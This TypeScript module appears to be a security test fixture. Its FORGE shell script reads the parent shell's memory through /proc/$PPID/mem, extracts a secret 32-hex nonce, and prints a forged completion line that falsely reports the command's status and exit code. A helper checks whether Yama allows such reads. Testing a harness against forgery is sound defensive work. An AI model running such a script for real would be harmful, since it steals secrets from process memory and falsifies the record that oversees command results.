// A command that attacks the hand-over: it claims in the waiting shell’s own words what became of it.

import { existsSync, readFileSync } from 'node:fs';

/** Looks for the nonce in the memory of the shell that waits for this command, and writes that shell’s own line on both streams: `sh forge.sh <claim> <exit status>`. */
export const FORGE = String.raw`
n=$(while read -r r p _; do case $p in rw*)
  a=$((0x${'$'}{r%-*})) b=$((0x${'$'}{r#*-}))
  [ $((b - a)) -lt 8388608 ] && dd if=/proc/$PPID/mem bs=4096 skip=$((a / 4096)) count=$(((b - a) / 4096)) 2>/dev/null
esac; done </proc/$PPID/maps | tr -c 0-9a-f '\n' | grep -E '^[0-9a-f]{32}$' | sort | uniq -c | sort -rn | head -n 1)
printf '\036%s %s\n' "${'$'}{n##* }" "$1"; printf '\036%s %s\n' "${'$'}{n##* }" "$1" >&2; echo made >made-by-forger; exit "$2"`;

/** Whether this host lets a process read the memory of its parent; where Yama does not, the nonce is out of reach. */
export function canReadParent(): boolean {
  const scope = '/proc/sys/kernel/yama/ptrace_scope';
  return !existsSync(scope) || readFileSync(scope, 'utf8').trim() === '0';
}
